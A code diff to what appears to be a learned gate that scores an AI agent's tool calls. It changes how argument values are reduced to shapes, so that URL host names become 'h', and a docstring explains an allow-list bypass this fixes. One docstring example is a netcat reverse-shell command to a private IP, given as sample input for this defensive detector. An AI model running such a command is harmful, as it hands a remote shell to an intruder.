@@ -117,13 +117,47 @@ _LETTERS_OR_DIGITS = re.compile(r"[A-Za-z]+|[0-9]+")
 SHAPE_CHARS, SHAPE_TOKENS = 64, 32
 
 
-def value_shape(text: str) -> str:
+def _fold(text: str) -> str:
+    """Every ASCII run of letters written ``a``, every run of digits ``0``, the rest kept."""
+    return _LETTERS_OR_DIGITS.sub(lambda m: "a" if m.group()[0].isalpha() else "0", text)
+
+
+#: A URL's authority: what follows ``scheme://`` up to the path, query, fragment or a space.
+_URL_AUTHORITY = re.compile(r"(?<=://)[^/?#\s]+")
+
+
+def _authority_shape(authority: str) -> str:
+    """A URL authority's shape with a host *name* written ``h``, whatever its labels:
+    ``docs.python.org`` and ``kubernetes.io`` are both ``h``, ``user@x.acme.io:8443`` is
+    ``a@h:0``; an IP address (``0.0.0.0``) and a dotless name (``localhost`` -> ``a``)
+    are folded as any value. How many labels a name has says nothing about where it
+    leads, and a shape that kept them taught the gate that the allow-listed hosts' form
+    (three labels) is safe: it let ``docs.djangoproject.com`` through under an allow-list
+    (docs/learning.md, "A host's name in a shape")."""
+    user, at, hostport = authority.rpartition("@")
+    host, colon, port = hostport.rpartition(":")
+    if not colon or not port.isdigit():
+        host, colon, port = hostport, "", ""
+    dotted_name = "." in host and not host.replace(".", "").isdigit() and "[" not in host
+    return ((_fold(user) + at) + ("h" if dotted_name else _fold(host))
+            + (colon + _fold(port)))
+
+
+def value_shape(text: str, hosts: bool = True) -> str:
     """``text`` with every run of letters written ``a`` and every run of digits ``0``, the
     rest kept (``/home/quinn/src/beacon-portal/adapters/codec.rb`` -> ``/a/a/a/a-a/a/a.a``,
     ``nc -e /bin/sh 10.0.0.7 4444`` -> ``a -a /a/a 0.0.0.0 0``), at most SHAPE_CHARS long:
-    what a value never seen before still shares with the values the gate has learned."""
-    return _LETTERS_OR_DIGITS.sub(lambda m: "a" if m.group()[0].isalpha() else "0",
-                                  text)[:SHAPE_CHARS]
+    what a value never seen before still shares with the values the gate has learned.
+    With `hosts`, a URL's host name is written ``h`` (`_authority_shape`):
+    ``https://docs.rs/serde#3`` -> ``a://h/a#0``."""
+    if not hosts or "://" not in text:
+        return _fold(text)[:SHAPE_CHARS]
+    parts, pos = [], 0
+    for m in _URL_AUTHORITY.finditer(text):
+        parts += [_fold(text[pos:m.start()]), _authority_shape(m.group())]
+        pos = m.end()
+    parts.append(_fold(text[pos:]))
+    return "".join(parts)[:SHAPE_CHARS]
 
 
 def _string_tokens(args: dict) -> Iterator[tuple[str, list[str]]]:
@@ -147,7 +181,8 @@ def structured_features(context: str, history: Sequence[str] | None, buckets: in
                         word_scale: float, cross_scale: float, shape_scale: float = 0.0,
                         known_scale: float = 0.0, sensitive_scale: float = 0.0,
                         endpoint_scale: float = 0.0, sql_scale: float = 0.0,
-                        place_scale: float = 0.0) -> tuple[np.ndarray, np.ndarray]:
+                        place_scale: float = 0.0, shape_hosts: bool = True
+                        ) -> tuple[np.ndarray, np.ndarray]:
     """Features of the call's parsed arguments and of the call x its history: (idx, val).
 
     Why, beside the byte n-grams (measured, docs/learning.md "Structured wide features"):
@@ -218,8 +253,8 @@ def structured_features(context: str, history: Sequence[str] | None, buckets: in
             if len(shapes) >= MAX_STRUCTURED:
                 break  # a hostile call with thousands of arguments costs no more
             text = value if isinstance(value, str) else json.dumps(value)
-            names = [f"s|{tool}|{key}|{value_shape(text)}"] + [
-                f"t|{tool}|{key}|{value_shape(token)}"
+            names = [f"s|{tool}|{key}|{value_shape(text, shape_hosts)}"] + [
+                f"t|{tool}|{key}|{value_shape(token, shape_hosts)}"
                 for token in text.split(maxsplit=SHAPE_TOKENS)[:SHAPE_TOKENS]]
             for name in names:
                 if len(shapes) < MAX_STRUCTURED:
